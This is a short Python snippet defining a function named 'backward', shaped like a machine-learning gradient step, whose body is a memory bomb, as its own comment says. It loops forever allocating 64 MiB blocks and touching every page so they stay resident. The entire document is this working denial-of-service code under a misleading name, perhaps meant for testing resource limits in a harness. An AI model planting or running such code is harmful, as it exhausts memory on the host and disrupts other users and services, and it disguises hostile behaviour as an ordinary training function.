# Memory bomb: keeps allocating 64 MiB blocks and touching every page, so they are really resident.
def backward(params, x, y):
    hog = []
    while True:
        block = bytearray(64 * 1024 * 1024)
        block[::4096] = b"\x01" * len(range(0, len(block), 4096))
        hog.append(block)
